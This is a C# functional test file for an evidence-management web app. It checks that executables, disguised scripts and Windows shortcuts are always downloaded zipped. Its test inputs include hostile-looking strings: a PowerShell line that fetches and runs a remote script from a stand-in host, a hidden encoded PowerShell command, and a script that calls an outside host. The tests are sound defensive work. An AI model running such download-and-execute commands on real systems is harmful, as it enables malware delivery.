using System.Net;
using CaseManager.Application.Evidence.Commands.OverrideKind;
using CaseManager.Domain.Evidence;

namespace CaseManager.Web.FunctionalTests.Security;

/// <summary>
/// Probe finding: executables reached the user unzipped when their kind was set to "Other" or their name ended in "." or
/// ".lnk": the zip decision trusted kind and extension, not content.
/// </summary>
public sealed class ZipDecisionTests(WebTestApp app) : IClassFixture<WebTestApp>
{
    private static readonly byte[] Shortcut =
    [
        0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
        0x9B, 0x00, 0x08, 0x00, 0x20, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    ];

    [Fact]
    public async Task AnExecutableWhoseKindWasOverriddenToOther_IsStillZipped()
    {
        var client = await app.SignedInClientAsync(app.ConsultantEmail);
        var id = await Uploads.UploadAsync(client, app.CaseA, "true", await File.ReadAllBytesAsync("/usr/bin/true"));
        await app.AsSystemAsync(async s => await s.Send(new OverrideEvidenceKindCommand(id, EvidenceKind.Other)));

        (await DownloadAsync(client, id)).ShouldBe("application/zip");
    }

    [Theory]
    [InlineData("run.ps1.", "Invoke-WebRequest http://x.example/a.ps1 | Invoke-Expression\r\n")]
    [InlineData("start.bat ", "@echo off\r\nstart http://x.example\r\n")]
    [InlineData("notes.txt", "@echo off\r\npowershell -nop -w hidden -enc SQBFAFgA\r\n")]
    [InlineData("page.html", "<html><body><script>fetch('http://x.example')</script></body></html>\n")]
    public async Task ScriptsDisguisedByNameOrKind_AreZipped(string name, string content)
    {
        var client = await app.SignedInClientAsync(app.ConsultantEmail);
        var id = await Uploads.UploadAsync(client, app.CaseA, name, System.Text.Encoding.UTF8.GetBytes(content));

        (await DownloadAsync(client, id)).ShouldBe("application/zip");
    }

    [Fact]
    public async Task AWindowsShortcut_IsZipped()
    {
        var client = await app.SignedInClientAsync(app.ConsultantEmail);
        var id = await Uploads.UploadAsync(client, app.CaseA, "invoice.pdf.lnk", Shortcut);

        (await DownloadAsync(client, id)).ShouldBe("application/zip");
    }

    [Fact]
    public async Task PlainLogsAndCaptures_StayPlain()
    {
        var client = await app.SignedInClientAsync(app.ConsultantEmail);
        var log = await Uploads.UploadAsync(client, app.CaseA, "auth.log", "Nov 28 03:00:01 web01 sshd[1]: Failed password for root\n"u8.ToArray());
        var pcap = await Uploads.UploadAsync(client, app.CaseA, "tiny.pcap", TinyCapture.DnsQuery("example.org"));

        (await DownloadAsync(client, log)).ShouldBe("application/octet-stream");
        (await DownloadAsync(client, pcap)).ShouldBe("application/octet-stream");
    }

    private static async Task<string?> DownloadAsync(HttpClient client, Guid id)
    {
        var response = await client.PostFormAsync($"/Cases/Evidence/Details/{id}?handler=Download", new() { ["reason"] = "analysis" }, formPage: $"/Cases/Evidence/Details/{id}");
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        return response.Content.Headers.ContentType?.MediaType;
    }
}
